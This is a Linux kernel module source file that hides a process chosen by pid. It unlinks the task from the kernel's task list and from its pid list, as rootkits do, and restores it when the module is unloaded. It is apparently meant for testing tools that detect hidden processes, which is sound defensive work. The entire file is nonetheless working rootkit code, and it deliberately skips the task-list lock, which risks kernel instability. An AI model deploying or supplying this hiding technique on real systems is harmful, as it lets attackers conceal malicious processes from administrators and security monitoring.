// SPDX-License-Identifier: GPL-2.0
/*
 * Hides a process as rootkits do: removes it from the task list, and from the list of its struct
 * pid. insmod hide.ko pid=N; rmmod puts it back, so that it can end.
 */
#include <linux/init.h>
#include <linux/module.h>
#include <linux/pid.h>
#include <linux/rculist.h>
#include <linux/sched.h>
#include <linux/sched/signal.h>

static int pid;
module_param(pid, int, 0);
static struct task_struct *task;
static struct hlist_node *link;
static struct pid *its_pid;

static int __init hide_init(void)
{
	its_pid = find_get_pid(pid);
	task = get_pid_task(its_pid, PIDTYPE_PID);
	if (!task)
		return -ESRCH;
	rcu_read_lock();
	/* tasklist_lock is not exported to modules; a rootkit does not take it either. */
	list_del_rcu(&task->tasks);
	link = &task->pid_links[PIDTYPE_PID];
	hlist_del_init_rcu(link);
	rcu_read_unlock();
	return 0;
}

static void __exit hide_exit(void)
{
	rcu_read_lock();
	list_add_tail_rcu(&task->tasks, &init_task.tasks);
	hlist_add_head_rcu(link, &its_pid->tasks[PIDTYPE_PID]);
	rcu_read_unlock();
	put_task_struct(task);
	put_pid(its_pid);
}

module_init(hide_init);
module_exit(hide_exit);
MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("Hides a process, for tests of what finds it");
